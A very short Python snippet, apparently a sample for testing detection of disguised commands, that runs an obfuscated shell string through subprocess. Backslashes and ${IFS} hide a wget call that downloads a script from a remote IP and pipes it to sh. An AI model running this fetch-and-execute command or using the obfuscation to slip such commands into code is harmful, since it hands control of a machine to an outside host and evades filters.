# disguised-command: $IFS and backslashes in a shell string given to subprocess
import subprocess

subprocess.run(r"\w\g\e\t${IFS}-qO-${IFS}http://203.0.113.7/e|\s\h", shell=True)
